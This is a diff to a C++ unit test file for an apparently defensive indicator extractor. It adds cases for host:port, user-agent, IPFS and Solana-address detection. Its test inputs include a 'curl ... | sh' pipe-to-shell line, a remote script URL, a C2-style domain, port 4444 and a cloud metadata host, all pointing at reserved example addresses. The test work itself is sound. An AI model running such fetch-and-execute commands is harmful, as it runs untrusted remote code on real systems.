@@ -30,6 +30,14 @@ TEST_P(Finds, WhatAResponderWouldSearchFor) { EXPECT_EQ(shown(GetParam().text), 
 INSTANTIATE_TEST_SUITE_P(
     Positives, Finds,
     testing::Values(
+        Case{"TCP:h.example.invalid:8443/x",
+             "domain=h.example.invalid hostPort=h.example.invalid:8443"},
+        Case{"Mozilla/5.0 (X11; Linux x86_64) Gecko/1 Odd/7",
+             "userAgent=Mozilla/5.0 (X11; Linux x86_64) Gecko/1 Odd/7"},
+        Case{"curl -A 'Mozilla/5.0 (odd)' h", "userAgent=Mozilla/5.0 (odd)"},
+        Case{"QmYwAPJzv5CZsnA625s3Xf2nemtYgPpHdWEz79ojWnQW7a", "ipfs=QmYwAPJzv5CZsnA625s3Xf2nemtYgPpHdWEz79ojWnQW7a"},
+        Case{"/ipfs/bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi",
+             "ipfs=bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi"},
         Case{"http://h.example.invalid/a.sh", "url=http://h.example.invalid/a.sh domain=h.example.invalid"},
         Case{"curl -s https://192.0.2.7:8080/x?y=1 | sh", "url=https://192.0.2.7:8080/x?y=1 ipv4=192.0.2.7"},
         Case{"see (http://a.example.invalid/b).", "url=http://a.example.invalid/b domain=a.example.invalid"},
@@ -40,7 +48,7 @@ INSTANTIATE_TEST_SUITE_P(
         Case{"http://[2001:db8::7]/x", "url=http://[2001:db8::7]/x ipv6=2001:db8::7"},
         Case{"ftp://user:pw@files.example.invalid/x",
              "url=ftp://user:pw@files.example.invalid/x domain=files.example.invalid"},
-        Case{"198.51.100.4:4444", "ipv4=198.51.100.4"}, Case{"10.0.0.5", "ipv4=10.0.0.5"},
+        Case{"198.51.100.4:4444", "ipv4=198.51.100.4 hostPort=198.51.100.4:4444"}, Case{"10.0.0.5", "ipv4=10.0.0.5"},
         Case{"host=203.0.113.9", "ipv4=203.0.113.9"}, Case{"2001:db8::1", "ipv6=2001:db8::1"},
         Case{"connect c2.example.invalid now", "domain=c2.example.invalid"},
         Case{"metadata.google.internal", "domain=metadata.google.internal"},
@@ -392,6 +400,13 @@ TEST(Addresses, AreClassified) {
                       {"1.2.3", AddressClass::Reserved},
                       {"1:2:3", AddressClass::Reserved}};
   for (const Row& row : rows) EXPECT_EQ(classify_address(row.address), row.kind) << row.address;
+}
+
+TEST(Solana, IsThirtyTwoBytes) {
+  EXPECT_TRUE(may_be_solana("So11111111111111111111111111111111111111112"));
+  EXPECT_FALSE(may_be_solana("11111111111111111111111111111111"));
+  EXPECT_FALSE(may_be_solana("So1111111111111111111111111111111111111111O"));
+  EXPECT_FALSE(may_be_solana("So111111111111111111111111111111"));
 }
 
 }  // namespace
